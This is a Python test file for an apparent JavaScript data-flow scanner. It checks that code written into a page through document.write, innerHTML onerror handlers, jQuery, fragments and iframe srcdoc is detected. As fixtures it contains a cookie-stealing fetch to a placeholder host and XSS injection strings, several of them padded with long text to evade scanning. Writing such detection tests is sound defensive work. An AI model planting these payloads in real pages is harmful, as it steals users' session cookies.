"""What a page writes into itself: its scripts and handlers run, however long or broken they are."""

import pytest
from engine_flows import flows, program_of

from ostiary.program.flow import Act

SENDS = "fetch(`https://c.example.invalid/?q=${document.cookie}`)"
WAYS = {
    "a sign of markup in the code": "document.write('<script>if (1 < 2) { CODE }</script>');",
    "a hole in the code": "document.write('<script>var a = \"' + named() + '\"; CODE</script>');",
    "no end": "document.write('<script>CODE');",
    "a long handler": f"document.body.innerHTML = '<img src=x onerror=\"{'a();' * 1200} CODE\">';",
    "behind a long text": f"document.body.innerHTML = '<p>{'word ' * 3000}</p><img src=x onerror=\"CODE\">';",
    "an address behind a long text": (
        f"document.body.innerHTML = '<p>{'word ' * 3000}</p><img src=\"https://c.example.invalid/?' "
        "+ document.cookie + '\">';"
    ),
}


WAYS |= {
    "a library": "require('jquery')('body').append('<script>CODE</script>');",
    "made at once": "require('jquery')('<img src=x onerror=\"CODE\">');",
    "a fragment": "document.createRange().createContextualFragment('<script>CODE</script>');",
    "beside an element": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"CODE\">');",
    "a frame": "document.createElement('iframe').srcdoc = '<script>CODE</script>';",
    "the page around it": "document.createElement('iframe').srcdoc = '<script>AROUND</script>';",
    "a frame in markup": "document.body.innerHTML = '<iframe srcdoc=\"&lt;script&gt;CODE&lt;/script&gt;\">';",
}
AROUND = SENDS.replace("document", "parent.document")


@pytest.mark.parametrize("way", WAYS)
def test_what_is_written_into_a_page_is_followed(way: str) -> None:
    text = WAYS[way].replace("CODE", SENDS).replace("AROUND", AROUND) + "\n"
    program = program_of("npm", {"index.js": text})
    sent = [one for one in program.flows if one.act is Act.SEND and "example.invalid" in one.target]
    assert sent or program.unfinished


def test_markup_that_does_nothing_is_none() -> None:
    text = f"document.body.innerHTML = '<p>{'word ' * 500}</p><button onclick=\"show(1)\">a</button>';\n"
    assert not flows(text, Act.SEND, "npm")


def test_a_script_that_a_library_loads_is_told() -> None:
    text = "require('jquery')('body').append('<script src=\"https://c.example.invalid/x.js\"></script>');\n"
    assert [one.target for one in flows(text, Act.IMPORT, "npm")] == [
        "https://c.example.invalid/x.js"
    ]
    for other in ("require('cheerio').load('')('body')", "list"):
        assert not flows(text.replace("require('jquery')('body')", other), Act.IMPORT, "npm")


def test_what_elements_are_given_runs_no_scripts() -> None:
    text = f"document.body.insertAdjacentHTML('beforeend', '<script>{SENDS}</script>');\n"
    assert not flows(text, Act.SEND, "npm")
